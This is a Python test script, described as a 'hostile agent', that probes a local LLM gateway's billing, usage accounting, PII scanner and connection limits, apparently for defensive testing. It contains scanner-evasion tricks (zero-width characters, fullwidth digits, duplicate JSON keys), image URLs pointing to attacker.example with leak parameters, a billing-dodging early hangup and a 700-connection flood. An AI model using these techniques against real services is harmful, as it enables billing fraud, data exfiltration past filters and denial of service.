# A hostile agent: tricks against the gateway's accounting and scanner. Prints one JSON line.
import http.client, json, os, socket, time

KEY = os.environ["OPENAI_API_KEY"]
out = {}

def post(path, body, raw=None):
    c = http.client.HTTPConnection("127.0.0.1", 4000, timeout=30)
    data = raw if raw is not None else json.dumps(body).encode()
    c.request("POST", "/llm/openai/v1/" + path, body=data,
              headers={"Authorization": "Bearer " + KEY, "Content-Type": "application/json"})
    r = c.getresponse()
    text = r.read().decode()
    try:
        return r.status, json.loads(text)
    except ValueError:
        return r.status, text

def chat(content, **kw):
    return post("chat/completions", dict(model="fake-gpt", messages=[{"role": "user", "content": content}], **kw))

# Hang up before the answer: the request still reaches the provider and must be billed.
s = socket.create_connection(("127.0.0.1", 4000))
body = json.dumps({"model": "fake-gpt", "max_tokens": 2000, "messages": [{"role": "user", "content": "[[fake:delay_ms=1000]] [[fake:usage=100,2000]] gone"}]}).encode()
s.sendall(b"POST /llm/openai/v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + KEY.encode()
          + b"\r\nContent-Type: application/json\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
time.sleep(0.2)
s.close()

# Inputs the body's size does not bound, or that the provider would fetch.
out["background"] = post("responses", {"model": "fake-gpt", "input": "x", "background": True})[0]
out["previous_response"] = post("responses", {"model": "fake-gpt", "input": "x", "previous_response_id": "resp_1"})[0]
out["server_tool"] = post("responses", {"model": "fake-gpt", "input": "x", "tools": [{"type": "web_search"}]})[0]
out["image_url"] = chat([{"type": "text", "text": "look"}, {"type": "image_url", "image_url": {"url": "http://attacker.example/?leak=1"}}])[0]

# Free endpoints must not fetch either.
c = http.client.HTTPConnection("127.0.0.1", 4000, timeout=30)
c.request("POST", "/llm/anthropic/v1/messages/count_tokens", body=json.dumps({"model": "fake-claude", "messages": [{"role": "user", "content": [
    {"type": "image", "source": {"type": "url", "url": "http://attacker.example/?d=1"}}]}]}),
    headers={"x-api-key": KEY, "content-type": "application/json", "anthropic-version": "2023-06-01"})
out["count_tokens_url"] = c.getresponse().status

# stream_options that is not an object must not keep usage away.
c = http.client.HTTPConnection("127.0.0.1", 4000, timeout=30)
c.request("POST", "/llm/openai/v1/chat/completions", body=json.dumps({"model": "fake-gpt", "stream": True, "stream_options": None,
          "messages": [{"role": "user", "content": "[[fake:usage=5000,9]] so"}]}),
          headers={"Authorization": "Bearer " + KEY, "Content-Type": "application/json"})
r = c.getresponse()
stream = r.read().decode()
out["stream_options_null"] = [r.status, "[DONE]" in stream, '"usage"' in stream]

# Personal data hidden from the scanner.
out["duplicate_keys"] = post("chat/completions", None, raw=b'{"model":"fake-gpt","messages":[{"role":"user","content":"mail eve@example.com","content":"hi"}]}')[0]
out["zero_width"] = chat("write to bob\u200b@example.com")[1]["choices"][0]["message"]["content"]
out["fullwidth_card"] = chat("card \uff14\uff11\uff11\uff11 1111 1111 1111 1111")[1]["choices"][0]["message"]["content"]
out["in_key"] = post("chat/completions", {"model": "fake-gpt", "metadata": {"eve@example.com": "x"}, "messages": [{"role": "user", "content": "hi"}]})[0]
out["in_tool_id"] = chat("hi", tools=[{"type": "function", "function": {"name": "f", "parameters": {}}}],
                         tool_choice="auto", user="id 4111-1111-1111-1111")[0]

# Many connections at once: the gateway caps them and keeps serving.
socks = []
for _ in range(700):
    try:
        socks.append(socket.create_connection(("127.0.0.1", 4000), timeout=5))
    except OSError:
        break
for x in socks:
    x.close()
# Connections past the cap are closed at once; once the flood's are gone, it serves again.
for attempt in range(100):
    try:
        out["after_flood"] = chat("still there")[0]
        break
    except (ConnectionError, http.client.HTTPException):
        time.sleep(0.1)
print(json.dumps(out))
